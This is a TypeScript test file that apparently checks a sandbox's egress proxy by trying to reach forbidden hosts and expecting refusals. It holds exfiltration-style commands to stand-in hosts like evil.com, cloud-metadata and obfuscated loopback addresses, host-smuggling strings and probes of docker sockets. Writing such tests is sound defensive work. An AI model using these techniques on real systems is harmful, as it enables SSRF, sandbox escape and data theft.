import type { AttackPlace, Attempt } from "../attempt.ts";

const UNSET = "env -u HTTP_PROXY -u HTTPS_PROXY -u http_proxy -u https_proxy -u NODE_USE_ENV_PROXY";

const dial = (host: string, port: number) =>
  `${UNSET} node -e 'const s=require("net").connect({host:${JSON.stringify(host)},port:${port},timeout:2000});const say=w=>{console.log(w);process.exit()};s.on("connect",()=>say("CONNECTED"));s.on("timeout",()=>say("timeout"));s.on("error",e=>say(e.code))'`;

/** Sends raw bytes to the proxy, and prints the first line of the response. */
const toProxy = (text: string) =>
  `node -e 'const s=require("net").connect(+new URL(process.env.HTTP_PROXY).port,"127.0.0.1",()=>s.write(${JSON.stringify(text).replaceAll("'", "")}));s.on("data",d=>{console.log(String(d).split("\\r\\n")[0]);process.exit()});s.on("close",()=>process.exit());s.on("error",e=>console.log(e.code))'; echo end`;

/** Requests a tunnel from the proxy, and prints the response. */
export const tunnel = (target: string) => toProxy(`CONNECT ${target} HTTP/1.1\r\nHost: x\r\n\r\n`);

const ELSEWHERE = {
  "an address of the internet": "1.1.1.1",
  "the cloud's metadata": "169.254.169.254",
  "the local network": "10.0.0.1",
  "an address of the internet, IPv6": "2606:4700:4700::1111",
  "a neighbour, IPv6": "fe80::1",
};

const REFUSED_NAMES = [
  "evil.com",
  "registry.npmjs.org.evil.com",
  "evil-registry.npmjs.org",
  "169.254.169.254",
  "localhost",
  "metadata.google.internal",
];

const spellings = (servicePort: number) => [
  "registry.npmjs.org:22",
  `127.0.0.1:${servicePort}`,
  `localhost:${servicePort}`,
  "0x7f000001:443",
  "0177.0.0.1:443",
  "2130706433:443",
  "127.1:443",
  "[::1]:443",
  "[::ffff:169.254.169.254]:80",
  "[64:ff9b::7f00:1]:443",
  "8.8.8.8:53",
  "evil\0.registry.npmjs.org:443",
  "evil.com#.registry.npmjs.org:443",
  "registry.npmjs.org@evil.com:443",
];

/**
 * Hosts that resemble allowed ones, with `a.example.com` and everything below `b.example.com`
 * allowed.
 */
const LOOKALIKES = [
  "a.example.com.evil.com",
  "evil-a.example.com",
  "x.a.example.com",
  "b.example.com",
  "evilb.example.com",
  "b.example.com.evil.com",
  "x.b.example.com.evil.com",
  "*.b.example.com",
  ".b.example.com",
];

/** Connections to hosts other than the registry and those of the project's settings. */
export function connections(place: AttackPlace): Attempt[] {
  const { addresses, servicePort } = place;
  const own = new Set([
    "127.0.0.1",
    "::1",
    "localhost",
    "0.0.0.0",
    "::ffff:127.0.0.1",
    ...addresses,
  ]);
  return [
    ...[...own].map((host): Attempt => ({
      id: "A31",
      area: "connect",
      what: `a service of the host at ${host}`,
      act: dial(host, servicePort),
      always: /./,
      never: /CONNECTED/,
    })),
    ...Object.entries(ELSEWHERE).map(([what, host]): Attempt => ({
      id: "A31",
      area: "connect",
      what: `${what} (${host}), past the proxy`,
      act: dial(host, 80),
      always: /ENETUNREACH|EHOSTUNREACH|EINVAL|EADDRNOTAVAIL/,
    })),
    {
      id: "A31",
      area: "connect",
      what: "the internet and the local network by UDP",
      act: `node -e 'const d=require("dgram");let left=3;for(const h of ["8.8.8.8","255.255.255.255","224.0.0.1"]){const s=d.createSocket("udp4");s.bind(()=>{try{s.setBroadcast(true)}catch{}s.send("x",53,h,e=>{console.log(e?e.code:"SENT");s.close();})})}'; echo end`,
      always: /E[A-Z]+\nE[A-Z]+\nE[A-Z]+\nend/,
      never: /SENT/,
    },
    {
      id: "A28",
      area: "connect",
      what: "a name, so that its lookup tells something",
      act: `node -e 'require("dns").lookup("secret.evil.com",e=>console.log(e.code))'; node -e 'require("dns").resolve("secret.evil.com",e=>console.log(e.code))'`,
      always:
        /^(egress refused: .*\n)?(EAI_AGAIN|ENOTFOUND)\n(egress refused: .*\n)?(ECONNREFUSED|ETIMEOUT|ENOTFOUND)\n$/,
    },
    ...REFUSED_NAMES.map((host): Attempt => ({
      id: "A27",
      area: "connect",
      what: `${host} through the proxy`,
      act: `curl -sS -m 5 https://${host}/ --noproxy '' 2>&1 | head -c 300; curl -sS -m 5 -d x http://${host}/ --noproxy '' 2>&1 | head -c 300`,
      always: /403[^]*egress refused/,
    })),
    ...spellings(servicePort).map((target): Attempt => ({
      id: /evil/.test(target) ? "A29" : "A31",
      area: "connect",
      what: `${target.replace("\0", "NUL")} through the proxy`,
      act: tunnel(target),
      always: /end/,
      never: /HTTP\/1.. 200/,
    })),
    {
      id: "A29",
      area: "connect",
      what: "names that look like an allowed one",
      async act(workspace) {
        workspace.configure({ hosts: ["a.example.com", "*.b.example.com"], secrets: [] });
        const result = await workspace.run(
          LOOKALIKES.map((host) => tunnel(`${host}:443`)).join("\n"),
        );
        workspace.configure({ hosts: [], secrets: [] });
        return result.output;
      },
      always: new RegExp(`^([^\n]*\n?HTTP/1.1 40[03] [^]*?end\n){${LOOKALIKES.length}}$`),
      never: /HTTP\/1.. (200|502)/,
    },
    {
      id: "A30",
      area: "connect",
      what: "an allowed host after it was taken off the list",
      async act(workspace) {
        workspace.configure({ hosts: ["a.example.com"], secrets: [] });
        workspace.configure({ hosts: [], secrets: [] });
        return (await workspace.run(tunnel("a.example.com:443"))).output;
      },
      always: /403[^]*end/,
    },
    {
      id: "A61",
      area: "connect",
      what: "a tunnel to the registry, to publish or to reach what lies behind its address",
      act: `${tunnel("registry.npmjs.org:443")}; ${tunnel("REGISTRY.npmjs.org.:443")}`,
      always: /403[^]*end[^]*403[^]*end/,
      never: /HTTP\/1.. 200/,
    },
    {
      id: "A63",
      area: "connect",
      what: "something sent to a host of fonts, which may only be asked",
      act: [
        "curl -ksS -m 20 -d secret https://fonts.gstatic.com/x",
        "curl -ksS -m 20 -X GET -d secret https://fonts.googleapis.com/x",
        "curl -ksS -m 20 -X GET -d secret http://fonts.googleapis.com/x",
      ].join("; "),
      always: /only GET and HEAD[^]*nothing may be sent[^]*nothing may be sent/,
    },
    {
      id: "A63",
      area: "connect",
      what: "a static host of pages, from the sandbox",
      act: tunnel("unpkg.com:443"),
      always: /403[^]*end/,
    },
    {
      id: "A27",
      area: "connect",
      what: "another host through the registry's address",
      act: `port=$(node -p 'new URL(process.env.npm_config_registry).port'); for path in //evil.com/x http://evil.com/x; do node -e 'const s=require("net").connect(+process.argv[1],"127.0.0.1",()=>s.write("GET "+process.argv[2]+" HTTP/1.1\\r\\nHost: evil.com\\r\\n\\r\\n"));s.on("data",d=>{console.log(String(d).split("\\r\\n")[0]);process.exit()})' $port $path; done; echo end`,
      always: /^(HTTP\/1.1 40\d [^\n]*\n){2}end/,
    },
    {
      id: "A33",
      area: "connect",
      what: "the registry's account, or a package published with the server's login",
      act: `for args in "-X PUT -d {}" "-X POST -d {}" "-X DELETE"; do curl -sS -m 5 $args "\${npm_config_registry}left-pad"; echo; done; for path in -/whoami -/npm/v1/tokens %2d/whoami; do curl -sS -m 5 --path-as-is "\${npm_config_registry}$path"; echo; done`,
      always: /^([^\n]*nothing else[^\n]*\n){6}$/,
    },
    {
      id: "A16",
      area: "connect",
      what: "the ways out of the sandbox, as a preview",
      async act(workspace) {
        const { output } = await workspace.run(
          "node -p '[process.env.HTTP_PROXY,process.env.npm_config_registry].map(u=>new URL(u).port).join()'",
        );
        const tried = output
          .trim()
          .split(",")
          .map((port) =>
            workspace.connect(Number(port)).then(
              () => "CONNECTED",
              (error: Error & { code?: string }) => `refused ${error.code}`,
            ),
          );
        return (await Promise.all(tried)).join("\n");
      },
      always: /^refused port\nrefused port$/,
    },
    {
      id: "A31",
      area: "connect",
      what: "abstract sockets of the host",
      act: `node -e 'const s=require("net").connect("\\0treadle-attack-${servicePort}");s.on("connect",()=>console.log("CONNECTED"));s.on("error",e=>console.log(e.code))'`,
      always: /^E/,
      never: /CONNECTED/,
    },
    {
      id: "A31",
      area: "connect",
      what: "sockets of the host's services",
      act: "for s in /var/run/docker.sock /run/docker.sock /run/dbus/system_bus_socket /run/user/0/bus /run/containerd/containerd.sock /tmp/.X11-unix/X0; do curl -sS -m 2 --unix-socket $s http://x/ > /dev/null 2>&1 && echo ANSWERED $s; done; echo end",
      always: /^end\n$/,
    },
    {
      id: "",
      area: "connect",
      what: "the server, by speaking as the guest",
      act: `node -e 'const n=require("net");const head=Buffer.from(JSON.stringify({kind:"ready",pid:1}));const f=Buffer.alloc(8);f.writeUInt32BE(head.length+4,0);f.writeUInt32BE(head.length,4);let left=2;const done=w=>{console.log(w);if(--left===0)process.exit()};for(const p of ["guest","stream"]){const s=n.connect("/run/sbx/"+p+".sock",()=>s.write(p==="guest"?Buffer.concat([f,head]):"0".repeat(32)));s.on("data",()=>done("ANSWERED"));s.on("error",()=>{});s.on("close",()=>done("closed"))}'`,
      always: /^closed\nclosed\n$/,
    },
  ];
}
